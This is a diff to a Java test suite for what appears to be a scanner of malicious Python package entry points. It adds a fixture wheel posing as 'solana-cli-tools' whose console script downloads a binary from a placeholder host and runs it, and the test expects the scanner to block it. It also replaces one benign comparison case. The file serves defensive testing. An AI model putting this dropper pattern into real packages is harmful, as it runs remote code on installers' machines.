@@ -92,18 +92,35 @@ class PythonEntryPointReplicasTest {
   }
 
   @Nested
+  @DisplayName("shape: console script payload (download, then run the file)")
+  class ConsoleScriptDropper {
+    @Test
+    void mainDownloadsToTempAndRunsTheFile() throws Exception {
+      wheel(tmp, "solana-cli-tools", "entry_points.txt", "[console_scripts]\nsolana-tools = solana_cli_tools:main\n",
+          "solana_cli_tools/__init__.py", """
+          import os, subprocess, tempfile, urllib.request
+          def main():
+              exe = os.path.join(tempfile.gettempdir(), "solana-helper")
+              urllib.request.urlretrieve("https://r.example.invalid/helper", exe)
+              os.chmod(exe, 0o755)
+              subprocess.Popen([exe])
+          """).isStopped(Trigger.PLUGIN_ENTRY_POINT, Capability.NETWORK, Capability.PROCESS_SPAWN);
+    }
+  }
+
+  @Nested
   @DisplayName("benign twin: plugins and commands doing their job")
   class Benign {
     @Test
-    void commandThatDownloadsAReleaseAndRunsItIsWhatInstallersDo() throws Exception {
-      wheel(tmp, "tool-installer", "entry_points.txt", "[console_scripts]\ntool-install = tool_installer:main\n",
-          "tool_installer/__init__.py", """
-          import os, subprocess, sys, urllib.request
+    void commandThatQueriesAnApiAndRunsGitIsWhatReleaseToolsDo() throws Exception {
+      wheel(tmp, "release-tool", "entry_points.txt", "[console_scripts]\nrelease = release_tool:main\n",
+          "release_tool/__init__.py", """
+          import json, os, subprocess, sys, urllib.request
           def main():
-              url = sys.argv[1]
-              path = os.path.join(os.getcwd(), "tool")
-              urllib.request.urlretrieve(url, path)
-              subprocess.check_call([path, "--version"])
+              api = os.environ.get("RELEASE_API", "https://api.github.com/repos/o/r/releases/latest")
+              tag = json.load(urllib.request.urlopen(api))["tag_name"]
+              subprocess.check_call(["git", "tag", tag], cwd=os.getcwd())
+              subprocess.check_call([sys.executable, "-m", "build"])
           """).isAllowed();
     }
 
